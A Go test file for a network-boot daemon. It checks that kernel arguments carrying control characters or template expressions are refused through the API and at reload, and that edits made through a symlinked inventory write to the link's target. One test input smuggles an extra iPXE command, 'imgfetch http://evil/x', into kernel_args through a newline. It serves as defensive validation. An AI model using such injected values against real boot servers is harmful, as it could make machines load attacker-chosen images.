package daemon_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	. "github.com/netbootui/netbootui/internal/daemon"
	"github.com/netbootui/netbootui/internal/inventory"
	"github.com/netbootui/netbootui/internal/lab"
)

// Kernel arguments the renderer refuses never reach the inventory in force:
// an API edit is refused before anything is written, and a file edited by
// hand is refused at reload (the last good one keeps serving), so the node's
// script is never answered with 500.
func TestKernelArgsTheRendererRefuses(t *testing.T) {
	e := startDaemon(t)
	rev := e.d.Inventory().Revision
	before, _ := os.ReadFile(e.inv)
	_, err := e.d.EditNode("px1", Edit{Set: map[string]any{"kernel_args": "quiet\nimgfetch http://evil/x"}})
	if err == nil || !strings.Contains(err.Error(), "kernel_args: control character U+000A") {
		t.Fatalf("edit: %v", err)
	}
	if after, _ := os.ReadFile(e.inv); string(after) != string(before) {
		t.Fatal("the refused edit was written")
	}

	bad := strings.Replace(testInventory, `kernel_args: "console=ttyS0"`, `kernel_args: "console=ttyS0 a=${x}"`, 1)
	if err := os.WriteFile(e.inv, []byte(bad), 0o644); err != nil {
		t.Fatal(err)
	}
	lab.Eventually(t, "a reload error naming kernel_args", 5*time.Second, func() bool {
		return strings.Contains(e.d.InventoryStatus().ReloadErr, "kernel_args")
	})
	st := e.d.InventoryStatus()
	if !strings.Contains(st.ReloadErr, `nodes.yaml:7:3: group compute: kernel_args: argument "a=${x}"`) || st.Revision != rev {
		t.Fatalf("reload: %+v", st)
	}
	if code, body := e.get("/boot/52:54:00:00:00:01.ipxe"); code != 200 || !strings.Contains(string(body), "console=ttyS0") {
		t.Fatalf("last good inventory not served: %d %s", code, body)
	}
}

// An edit through the API of a symlinked inventory (the file in a git
// checkout, the link where the daemon looks) writes the link's target and
// keeps the link.
func TestEditThroughSymlinkedInventory(t *testing.T) {
	e := startDaemon(t)
	checkout := filepath.Join(t.TempDir(), "cluster.yaml")
	if err := os.Rename(e.inv, checkout); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(checkout, e.inv); err != nil {
		t.Fatal(err)
	}
	rev, err := e.d.EditNode("px1", Edit{Set: map[string]any{"kernel_args": "quiet"}, Who: "test"})
	if err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(e.inv); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("the inventory is no longer a symbolic link: %v", err)
	}
	data, _ := os.ReadFile(checkout)
	if inventory.Revision(data) != rev || !strings.Contains(string(data), "kernel_args: quiet") {
		t.Fatalf("the link's target was not edited (revision %s):\n%s", rev, data)
	}
	if e.d.Inventory().Revision != rev {
		t.Errorf("the daemon serves revision %s, want %s", e.d.Inventory().Revision, rev)
	}
}
